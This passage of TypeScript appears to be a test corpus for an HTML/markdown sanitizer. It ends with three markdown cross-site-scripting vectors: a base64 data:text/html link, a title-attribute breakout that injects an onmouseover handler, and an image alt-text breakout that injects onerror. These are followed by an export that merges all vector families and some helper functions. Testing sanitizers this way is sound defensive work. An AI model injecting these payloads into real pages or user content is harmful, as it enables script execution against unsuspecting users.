  { name: 'md-link-data', markup: `[md data](data:text/html;base64,${B64_FRAME_SCRIPT})`, kind: 'markdown' },
  { name: 'md-link-title-breakout', markup: `[md title](https://ok.example/ "a\\" onmouseover=\\"${RUN}")`, kind: 'markdown' },
  { name: 'md-image-alt-breakout', markup: `![x" onerror="${RUN}](https://ok.example/a.png)`, kind: 'markdown' },
];

/** The whole corpus. */
export const XSS_VECTORS: readonly XssVector[] = [
  ...scriptVectors,
  ...eventVectors,
  ...urlVectors,
  ...svgVectors,
  ...mathmlVectors,
  ...mutationVectors,
  ...clobberingVectors,
  ...cssVectors,
  ...frameVectors,
  ...markdownVectors,
];

/** A stable job id for each vector: `xss-001`… */
export function vectorId(index: number): string {
  return `xss-${String(index + 1).padStart(3, '0')}`;
}

/** Legitimate text that must still be shown around a vector. */
export const beforeText = (vector: XssVector): string => `Before ${vector.name}.`;
export const AFTER_TEXT = 'After.';
